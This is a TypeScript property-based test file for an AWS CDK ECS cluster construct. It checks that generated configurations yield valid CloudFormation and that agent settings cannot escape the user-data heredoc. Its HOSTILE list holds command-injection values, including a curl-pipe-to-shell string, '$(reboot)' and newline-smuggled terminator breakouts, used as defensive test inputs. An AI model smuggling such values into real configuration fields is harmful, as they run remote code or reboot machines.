import { Stack, aws_ec2 as ec2, aws_ecs as ecs } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import * as fc from 'fast-check';
import { EcsCluster, EcsClusterProps, EcsKitValidationError, TaskCapacity } from '../../src';

/**
 * Property tests of EcsCluster: every generated input either synthesizes a
 * template whose values obey AWS's rules, or throws EcsKitValidationError —
 * never another error. Templates are checked directly (no cdk-nag) to stay fast.
 */

const TERMINATOR = 'CDK_ECS_KIT_AGENT_CONFIG';
const INSTANCE_TYPE = /^([a-z]+)(\d{1,2})([a-z-]*)\.([a-z0-9-]+)$/;
const CAPACITY_PROVIDER_NAME = /^[A-Za-z0-9_-]{1,255}$/;
const HOSTILE = ['prefer-cached;curl https://x|sh', '$(reboot)', '`reboot`', 'a\nreboot', `x\n${TERMINATOR}\nreboot`, 'a\r', '"\'\\', '{"a":"b"}', TERMINATOR];

/** Mostly left out or valid, sometimes anything: so that a good share of the inputs is accepted and synthesized. */
function maybe<T>(valid: fc.Arbitrary<T>, anything: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> {
  return fc.oneof(
    { arbitrary: fc.constant(undefined), weight: 4 },
    { arbitrary: valid, weight: 4 },
    { arbitrary: anything, weight: 1 },
  );
}

const validInstanceType = fc.constantFrom('m7g.large', 'm6g.large', 'c7g.xlarge', 'm7i-flex.large', 't3.medium', 'm6i.large');
const anyInstanceType = fc.oneof(
  fc.constantFrom('m7g', 'm7g.', 'foo', 'M5.large', '', '.large', 'g5.xlarge', 'm7g.large'),
  fc.string({ maxLength: 12 }),
);
const toTypes = (names: string[]) => names.map(name => new ec2.InstanceType(name));

const capacityOptions = fc.record({
  instanceTypes: maybe(
    fc.uniqueArray(fc.constantFrom('m7g.large', 'm6g.large', 'c7g.xlarge'), { minLength: 1, maxLength: 3 }).map(toTypes),
    fc.array(fc.oneof(validInstanceType, anyInstanceType), { maxLength: 3 }).map(toTypes),
  ),
  spot: fc.oneof({ arbitrary: fc.constant(undefined), weight: 3 }, { arbitrary: fc.boolean(), weight: 1 }),
  minCapacity: maybe(fc.integer({ min: 0, max: 2 }), fc.integer({ min: -1, max: 12 })),
  maxCapacity: maybe(fc.integer({ min: 2, max: 6 }), fc.integer({ min: -1, max: 12 })),
  desiredCapacity: maybe(fc.integer({ min: 2, max: 2 }), fc.integer({ min: -1, max: 12 })),
  capacityProviderName: maybe(
    fc.stringMatching(/^[b-df-z][A-Za-z0-9_-]{0,11}$/),
    fc.oneof(fc.constantFrom('Ecs-spot', 'aws', 'FARGATE_x', 'a b', '', 'on-demand'), fc.string({ maxLength: 12 })),
  ),
  agentSettings: maybe(
    fc.dictionary(
      fc.constantFrom('ECS_LOGLEVEL', 'ECS_IMAGE_PULL_BEHAVIOR', 'ECS_INSTANCE_ATTRIBUTES'),
      fc.oneof(fc.constantFrom(...HOSTILE.filter(v => !/[\r\n]/.test(v))), fc.string({ maxLength: 16 })),
      { maxKeys: 3 },
    ),
    fc.dictionary(
      fc.oneof(fc.constantFrom('ECS_LOGLEVEL', 'ECS_CLUSTER'), fc.string({ maxLength: 8 })),
      fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 16 })),
      { maxKeys: 3 },
    ),
  ),
  vpcSubnets: maybe(
    fc.constant<ec2.SubnetSelection>({ subnetType: ec2.SubnetType.PUBLIC }),
    fc.constantFrom<ec2.SubnetSelection>({ subnetType: ec2.SubnetType.PRIVATE_WITH_EGRESS }, { subnetType: ec2.SubnetType.PRIVATE_ISOLATED }, {}),
  ),
}, { requiredKeys: [] }).map(options =>
  // Spot needs a list of types: mostly give one
  (options.spot && !options.instanceTypes ? { ...options, instanceTypes: toTypes(['m7g.large', 'm6g.large']) } : options));

const anyStrategy = fc.array(fc.record({
  capacityProvider: fc.constantFrom('FARGATE', 'FARGATE_SPOT', 'on-demand', 'batch', 'x'),
  weight: fc.option(fc.integer({ min: -1, max: 3 }), { nil: undefined }),
  base: fc.option(fc.integer({ min: -1, max: 2 }), { nil: undefined }),
}, { requiredKeys: ['capacityProvider'] }), { maxLength: 3 }) as fc.Arbitrary<ecs.CapacityProviderStrategy[]>;
const fargateStrategy = fc.tuple(fc.integer({ min: 1, max: 3 }), fc.integer({ min: 0, max: 2 }), fc.integer({ min: 0, max: 1 }))
  .map(([spotWeight, weight, base]) => [{ capacityProvider: 'FARGATE_SPOT', weight: spotWeight }, { capacityProvider: 'FARGATE', weight, base }]);

const clusterProps: fc.Arbitrary<EcsClusterProps> = fc.record({
  maxAzs: maybe(fc.integer({ min: 1, max: 3 }), fc.integer({ min: -1, max: 7 })),
  natGateways: maybe(fc.integer({ min: 0, max: 1 }), fc.integer({ min: -1, max: 7 })),
  enableFargateCapacityProviders: maybe(fc.constant(true), fc.constant(false)),
  ec2Capacity: fc.option(capacityOptions, { nil: undefined }),
  defaultTaskCapacity: maybe(fargateStrategy, anyStrategy).map(s => (s === undefined ? undefined : TaskCapacity.fromCapacityProviderStrategies(s))),
}, { requiredKeys: [] });

/** Builds the cluster (plus an optional second group) and returns its template, or undefined when our error was thrown. */
function synthesizeOrRefuse(props: EcsClusterProps, second?: Parameters<EcsCluster['addEc2Capacity']>[1]): Template | undefined {
  const stack = new Stack();
  try {
    const cluster = new EcsCluster(stack, 'Cluster', props);
    if (second) cluster.addEc2Capacity('Second', second);
    return Template.fromStack(stack);
  } catch (e) {
    if (EcsKitValidationError.isEcsKitValidationError(e)) return undefined;
    throw e;
  }
}

function resourcesOf(template: Template, type: string): any[] {
  return Object.values(template.findResources(type)).map((r: any) => r.Properties);
}

/** The AWS rules the template's values must obey. */
function expectTemplateObeysAwsRules(template: Template): void {
  // Capacity providers: ECS's name syntax, unique names
  const names = resourcesOf(template, 'AWS::ECS::CapacityProvider').map(p => p.Name).filter(n => typeof n === 'string');
  for (const name of names) {
    expect(name).toMatch(CAPACITY_PROVIDER_NAME);
    expect(name).not.toMatch(/^(aws|ecs|fargate)/i);
  }
  expect(new Set(names).size).toBe(names.length);

  // Auto Scaling groups: min <= desired <= max, instance types well formed and unique
  for (const asg of resourcesOf(template, 'AWS::AutoScaling::AutoScalingGroup')) {
    const [min, max] = [Number(asg.MinSize), Number(asg.MaxSize)];
    expect(min).toBeGreaterThanOrEqual(0);
    expect(min).toBeLessThanOrEqual(max);
    if (asg.DesiredCapacity !== undefined) {
      expect(Number(asg.DesiredCapacity)).toBeGreaterThanOrEqual(min);
      expect(Number(asg.DesiredCapacity)).toBeLessThanOrEqual(max);
    }
    const overrides: string[] = (asg.MixedInstancesPolicy?.LaunchTemplate?.Overrides ?? []).map((o: any) => o.InstanceType);
    expect(new Set(overrides).size).toBe(overrides.length);
    overrides.forEach(type => expect(type).toMatch(INSTANCE_TYPE));
  }

  // Launch templates: instance type well formed; user data writes values only inside the quoted heredoc
  for (const lt of resourcesOf(template, 'AWS::EC2::LaunchTemplate')) {
    if (lt.LaunchTemplateData.InstanceType !== undefined) expect(lt.LaunchTemplateData.InstanceType).toMatch(INSTANCE_TYPE);
    const userData = lt.LaunchTemplateData.UserData['Fn::Base64'];
    if (typeof userData === 'string') continue; // Bottlerocket is not generated here
    const lines = userData['Fn::Join'][1].map((p: unknown) => (typeof p === 'string' ? p : 'my-cluster')).join('').split('\n');
    const start = lines.indexOf(`cat >> /etc/ecs/ecs.config <<'${TERMINATOR}'`);
    expect(lines.slice(0, start + 1)).toEqual(['#!/bin/bash', 'echo ECS_CLUSTER=my-cluster >> /etc/ecs/ecs.config', lines[start]]);
    expect(lines[lines.length - 1]).toBe(TERMINATOR);
    for (const line of lines.slice(start + 1, -1)) {
      expect(line).toMatch(/^ECS_[A-Z0-9_]+=[^\x00-\x1f\x7f]*$/);
      expect(line).not.toMatch(/^ECS_CLUSTER=/);
    }
  }

  // NAT gateways: at most one per Availability Zone
  expect(resourcesOf(template, 'AWS::EC2::NatGateway').length).toBeLessThanOrEqual(resourcesOf(template, 'AWS::EC2::Subnet').length / 2);

  // Default strategy: as ECS checks it
  for (const association of resourcesOf(template, 'AWS::ECS::ClusterCapacityProviderAssociations')) {
    const entries: any[] = association.DefaultCapacityProviderStrategy ?? [];
    if (entries.length === 0) continue;
    const providers = entries.map(e => JSON.stringify(e.CapacityProvider));
    expect(new Set(providers).size).toBe(providers.length);
    expect(entries.some(e => (e.Weight ?? 0) > 0)).toBe(true);
    expect(entries.every(e => (e.Weight ?? 0) >= 0 && (e.Weight ?? 0) <= 1000)).toBe(true);
    expect(entries.filter(e => (e.Base ?? 0) > 0).length).toBeLessThanOrEqual(1);
    const fargate = entries.filter(e => e.CapacityProvider === 'FARGATE' || e.CapacityProvider === 'FARGATE_SPOT');
    expect(fargate.length === 0 || fargate.length === entries.length).toBe(true);
    const associated = association.CapacityProviders.map((p: unknown) => JSON.stringify(p));
    providers.forEach(p => expect(associated).toContain(p));
  }
}

describe('EcsCluster properties', () => {
  test('every cluster either synthesizes a template that obeys AWS rules or fails with our error', () => {
    fc.assert(fc.property(clusterProps, props => {
      const template = synthesizeOrRefuse(props);
      if (template) expectTemplateObeysAwsRules(template);
    }), { numRuns: 30 });
  });

  test('every second capacity group either synthesizes a template that obeys AWS rules or fails with our error', () => {
    fc.assert(fc.property(capacityOptions, capacityOptions, fc.constantFrom(0, 1), (first, second, natGateways) => {
      const template = synthesizeOrRefuse({ natGateways, ec2Capacity: first }, second);
      if (template) {
        expectTemplateObeysAwsRules(template);
        // without NAT gateways, instances only ever land in public subnets
        if (natGateways === 0) {
          for (const asg of resourcesOf(template, 'AWS::AutoScaling::AutoScalingGroup')) {
            asg.VPCZoneIdentifier.forEach((ref: any) => expect(ref.Ref).toMatch(/PublicSubnet/));
          }
        }
      }
    }), { numRuns: 20 });
  });

  test('agent settings with arbitrary strings never reach the user data outside the heredoc', () => {
    const value = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: 'binary', maxLength: 24 }));
    fc.assert(fc.property(value, agentValue => {
      const template = synthesizeOrRefuse({ ec2Capacity: { agentSettings: { ECS_LOGLEVEL: agentValue } } });
      const acceptable = !/[\x00-\x1f\x7f]/.test(agentValue);
      expect(template !== undefined).toBe(acceptable);
      if (template) {
        expectTemplateObeysAwsRules(template);
        const [lt] = resourcesOf(template, 'AWS::EC2::LaunchTemplate');
        const text = lt.LaunchTemplateData.UserData['Fn::Base64']['Fn::Join'][1].filter((p: unknown) => typeof p === 'string').join('');
        expect(text.endsWith(`\nECS_AWSVPC_BLOCK_IMDS=true\nECS_LOGLEVEL=${agentValue}\n${TERMINATOR}`)).toBe(true);
      }
    }), { numRuns: 30 });
  });
});
